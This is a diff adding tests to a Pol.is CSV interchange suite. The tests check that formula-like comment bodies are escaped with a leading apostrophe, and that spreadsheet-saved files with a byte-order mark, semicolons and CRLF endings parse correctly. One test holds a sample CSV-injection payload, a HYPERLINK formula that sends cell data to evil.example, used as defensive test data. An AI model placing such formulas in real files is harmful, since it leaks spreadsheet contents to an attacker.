@@ -77,4 +77,35 @@ describe('Pol.is CSV interchange', () => {
     expect(idx.every((i) => res.participantGroup[i] >= 0)).toBe(true);
     expect(ari(idx.map((i) => res.participantGroup[i]), idx.map((i) => conv.polisGroup[i]))).toBeGreaterThan(0.5);
   });
+  it('writes formula-like statements as text (an apostrophe in front) and reads them back exactly', () => {
+    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const bodies = [attack, '+1 from me', '-this is bad', '@mention', '\tindented', "'=already marked", '-1', 'plain'];
+    const src = parsePolisExport({ 'comments.csv': files['comments.csv'] });
+    const mine = { ...src, comments: { ...src.comments!, rows: src.comments!.rows.slice(0, bodies.length).map((r, k) => ({ ...r, body: bodies[k] })) } };
+    const csv = serialisePolisExport(mine)['comments.csv']!;
+    // no cell written starts like a formula, except the number -1; votes and counts stay numbers
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(csv).toContain(",'+1 from me");
+    expect(csv).toContain(",'-this is bad");
+    expect(csv).toContain(",'@mention");
+    expect(csv).toContain(",'\tindented");
+    expect(csv).toContain(",''=already marked");
+    expect(csv).toMatch(/,-1\n/);
+    expect(csv).not.toMatch(/,(=|\+1 from|-this|@mention)/);
+    const back = parsePolisExport({ 'comments.csv': csv });
+    expect(back.comments!.rows.map((r) => r.body)).toEqual(bodies);
+    expect(back.comments!.rows.map((r) => r.moderated)).toEqual(mine.comments.rows.map((r) => r.moderated));
+    expect(serialisePolisExport(back)['comments.csv']).toBe(csv);
+  });
+
+  it('reads files saved by a spreadsheet: byte-order mark, ; separator, CRLF, empty trailing columns, and says so', () => {
+    const saved = '\uFEFFtimestamp;comment-id;voter-id;vote;;;\r\n1;0;1;-1;;;\r\n2;0;2;1;;;\r\n';
+    const exp2 = parsePolisExport({ 'votes.csv': saved });
+    expect(exp2.votes!.header).toEqual(['timestamp', 'comment-id', 'voter-id', 'vote']);
+    expect(exp2.votes!.rows.map((r) => [r.voterId, r.vote])).toEqual([[1, -1], [2, 1]]);
+    expect(exp2.ignored).toEqual({ 'votes.csv': { bom: true, emptyColumns: [5, 6, 7], delimiter: ';' } });
+    // an ordinary Pol.is file reports nothing ignored
+    expect(exp.ignored).toBeUndefined();
+  });
 });
+
